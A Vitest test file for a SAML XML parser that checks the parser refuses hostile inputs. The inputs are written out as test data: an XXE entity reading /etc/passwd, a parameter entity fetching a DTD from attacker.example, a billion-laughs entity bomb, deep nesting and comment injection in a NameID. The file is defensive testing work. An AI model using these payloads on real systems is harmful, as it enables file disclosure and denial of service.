import { describe, expect, it } from 'vitest';
import { fixtureXml } from '../../tests/support/har-builder';
import { maxDepth, parseXml, unescapeXml } from './parse';
import { childText } from './xml-node';

describe('parseXml', () => {
  it('reads elements the same whatever the namespace prefix', () => {
    for (const xml of [
      '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><saml:Issuer>idp</saml:Issuer></samlp:Response>',
      '<saml2p:Response xmlns:saml2p="urn:oasis:names:tc:SAML:2.0:protocol"><saml2:Issuer xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion">idp</saml2:Issuer></saml2p:Response>',
      '<Response xmlns="urn:oasis:names:tc:SAML:2.0:protocol"><Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">idp</Issuer></Response>',
    ]) {
      const r = parseXml(xml);
      expect(r.ok && r.rootName).toBe('Response');
      expect(r.ok && childText(r.root, 'Issuer')).toBe('idp');
    }
  });

  it('refuses a DOCTYPE with an external entity (XXE) without fetching anything', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response>&x;</Response>';
    const r = parseXml(xxe);
    expect(r).toMatchObject({ ok: false, problem: { rule: 'xml-unsafe', stage: 'doctype' } });
    expect(!r.ok && r.problem.detail).toMatch(/external resource \(XXE\)/);
  });

  it('refuses the published billion-laughs attack message', () => {
    expect(parseXml(fixtureXml('hostile/rubysaml-attack-xxe.xml'))).toMatchObject({ ok: false, problem: { rule: 'xml-unsafe', stage: 'doctype' } });
  });

  it('refuses a parameter entity (XXE through the DTD)', () => {
    const r = parseXml('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><Response/>');
    expect(!r.ok && r.problem.detail).toMatch(/XXE/);
  });

  it('refuses billion laughs and expands nothing', () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><Response>&lol9;</Response>`;
    expect(parseXml(lol)).toMatchObject({ ok: false, problem: { rule: 'xml-unsafe' } });
  });

  it('refuses an entity declaration hidden without a DOCTYPE', () => {
    expect(parseXml('<Response><!ENTITY x "y"></Response>')).toMatchObject({ ok: false, problem: { rule: 'xml-unsafe', stage: 'entity' } });
  });

  it('refuses 100,000-deep nesting without recursing', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    expect(parseXml(deep)).toMatchObject({ ok: false, problem: { rule: 'xml-unsafe', stage: 'depth' } });
  });

  it('reports malformed XML with its position', () => {
    const r = parseXml('<Response><Issuer>x</Response>');
    expect(r).toMatchObject({ ok: false, problem: { rule: 'decode-failed', stage: 'xml' } });
    expect(!r.ok && r.problem.detail).toMatch(/line 1/);
  });

  it('joins text split by an injected comment, as XML text content is defined', () => {
    const r = parseXml('<Response><NameID>user@exa<!---->mple.com</NameID></Response>');
    expect(r.ok && childText(r.root, 'NameID')).toBe('user@example.com');
  });
});

describe('maxDepth', () => {
  it('counts elements, not comments, CDATA, PIs or self-closing tags', () => {
    expect(maxDepth('<?xml version="1.0"?><a><!-- <b><c> --><b/><c><![CDATA[<d><e>]]></c></a>')).toBe(2);
  });
});

describe('unescapeXml', () => {
  it('resolves predefined entities and character references only', () => {
    expect(unescapeXml('a &amp; b &lt;&#65;&#x42;&gt; &nbsp; &unknown;')).toBe('a & b <AB> &nbsp; &unknown;');
  });
});
